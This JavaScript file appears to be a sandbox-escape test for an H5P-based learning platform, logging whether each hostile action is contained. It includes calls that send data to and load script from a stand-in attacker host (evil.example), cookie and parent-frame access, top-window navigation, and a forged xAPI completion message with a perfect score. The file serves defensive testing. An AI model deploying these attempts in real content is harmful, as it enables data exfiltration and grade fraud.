"use strict";

// Tries what a package must not be able to do, and writes down what became of it.
var Test = window.Test || {};

Test.Hostile = function (params, contentId) {
  H5P.EventDispatcher.call(this);
  this.contentId = contentId;
  const list = document.createElement("ul");

  const note = (name, outcome) => {
    const item = document.createElement("li");
    item.dataset.attack = name;
    item.textContent = outcome;
    list.append(item);
    this.trigger("resize");
  };

  const attempt = async (name, act) => {
    try {
      note(name, `reached ${await act()}`);
    } catch {
      note(name, "contained");
    }
  };

  const loaded = (address) =>
    new Promise((done, fail) => {
      const image = new Image();
      image.onload = () => done("a picture");
      image.onerror = fail;
      image.src = address;
    });

  const forged = () => ({
    context: "lms-h5p",
    type: "xapi",
    statement: {
      verb: { id: "http://adlnet.gov/expapi/verbs/completed" },
      object: { id: H5PIntegration.contents[`cid-${contentId}`].url },
      result: { score: { raw: 10, max: 10 } },
    },
    children: [],
  });

  const attacks = {
    cookie: () => {
      document.cookie = "stolen=1";
      if (document.cookie === "") throw new Error("no cookies here");
      return document.cookie;
    },
    parent: () => window.parent.document.title,
    top: () => {
      window.top.location = "about:blank";
      return "the window";
    },
    session: async () => {
      const address = `${location.protocol}//${location.host}/mein-weg/`;
      return (await fetch(address, { credentials: "include" })).status;
    },
    beacon: async () => (await fetch("https://evil.example/?stolen", { mode: "no-cors" })).type,
    picture: () => loaded("https://evil.example/pixel.png"),
    script: () =>
      new Promise((done, fail) => {
        const script = document.createElement("script");
        script.src = "https://evil.example/more.js";
        script.onload = () => done("a script");
        script.onerror = fail;
        document.head.append(script);
      }),
    inline: () => {
      window.hostileInline = false;
      const script = document.createElement("script");
      script.textContent = "window.hostileInline = true";
      document.head.append(script);
      if (!window.hostileInline) throw new Error("not run");
      return "an inline script";
    },
    storage: () => {
      const own = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage");
      return (own?.get ?? (() => window.localStorage.missing())).call(window).length;
    },
    worker: () => new Worker(`${location.protocol}//${location.host}/static/lms/js/h5p.js`),
    caller: () => window.frameElement.id,
  };

  this.attach = async (container) => {
    container[0].append(TestBase.heading(params.question || "Test hostile"), list);
    for (const [name, act] of Object.entries(attacks)) await attempt(name, act);
    // From our own frame, without anybody's hand; and from a frame below it.
    window.parent.postMessage(forged(), "*");
    const below = document.createElement("iframe");
    below.srcdoc = "<p>below</p>";
    document.body.append(below);
    below.contentWindow.postMessage(forged(), "*");
    note("done", "tried everything");
  };
};
Test.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
